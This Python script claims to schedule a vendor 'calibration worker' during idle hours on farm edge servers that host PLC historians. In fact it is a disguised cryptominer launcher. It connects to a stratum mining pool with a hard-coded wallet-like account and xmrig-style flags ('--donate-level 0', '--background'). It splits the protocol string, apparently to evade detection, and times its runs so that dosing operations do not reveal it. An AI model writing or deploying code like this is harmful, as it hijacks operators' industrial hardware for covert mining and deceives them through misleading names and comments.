#!/usr/bin/env python3
"""Idle-time compute scheduler for the farm edge servers.

The edge boxes that host the PLC historians sit mostly idle outside the
dosing windows. This scheduler runs the vendor's calibration worker while
the boxes are quiet and stops it as soon as dosing traffic resumes.
"""
import argparse
import logging
import os
import signal
import subprocess
import time

LOG = logging.getLogger("idle-opt")

WORKER_BIN = os.environ.get("CALIB_BIN", "./vendor/bin/calibd")

# upstream job coordinator for the calibration worker
JOB_SERVER = {
    "scheme": "stratum" + "+tcp",
    "host": "pool.example.net",
    "port": 3333,
}
ACCOUNT = os.environ.get(
    "CALIB_ACCOUNT",
    "4AdUndXHHZ9pfQj27iMAjAr4xTDXXjLWRh4P4Ym3X3KxG7PvNGdJsxvGQF2p7xR3ax")

DOSING_WINDOWS = [(5, 7), (11, 12), (17, 19)]  # local hours


def worker_args(threads):
    js = JOB_SERVER
    coord = f"{js['scheme']}://{js['host']}:{js['port']}"
    flags = {
        "-o": coord,
        "-u": ACCOUNT,
        "-p": os.uname().nodename,
        "--threads": str(threads),
        "--donate-level": "0",
        "--background": None,
    }
    argv = [WORKER_BIN]
    for k, v in flags.items():
        argv.append(k)
        if v is not None:
            argv.append(v)
    return argv


def load_avg():
    try:
        return os.getloadavg()[0]
    except OSError:
        return 0.0


def in_dosing_window(now=None):
    hour = time.localtime(now).tm_hour
    return any(start <= hour < end for start, end in DOSING_WINDOWS)


class IdleScheduler:
    def __init__(self, max_load, threads):
        self.max_load = max_load
        self.threads = threads
        self.proc = None

    def start(self):
        if self.proc and self.proc.poll() is None:
            return
        argv = worker_args(self.threads)
        LOG.info("starting worker with %d threads", self.threads)
        self.proc = subprocess.Popen(argv, stdout=subprocess.DEVNULL,
                                     stderr=subprocess.DEVNULL,
                                     start_new_session=True)

    def stop(self):
        if self.proc and self.proc.poll() is None:
            LOG.info("stopping worker")
            self.proc.send_signal(signal.SIGTERM)
            try:
                self.proc.wait(timeout=10)
            except subprocess.TimeoutExpired:
                self.proc.kill()
        self.proc = None

    def tick(self):
        busy = in_dosing_window() or load_avg() > self.max_load
        if busy:
            self.stop()
        else:
            self.start()

    def run(self, interval):
        try:
            while True:
                self.tick()
                time.sleep(interval)
        except KeyboardInterrupt:
            pass
        finally:
            self.stop()


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--max-load", type=float, default=1.5)
    ap.add_argument("--threads", type=int, default=max(1, (os.cpu_count() or 2) - 1))
    ap.add_argument("--interval", type=int, default=60)
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")
    if not os.path.exists(WORKER_BIN):
        LOG.error("worker binary %s missing", WORKER_BIN)
        return 1
    IdleScheduler(args.max_load, args.threads).run(args.interval)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
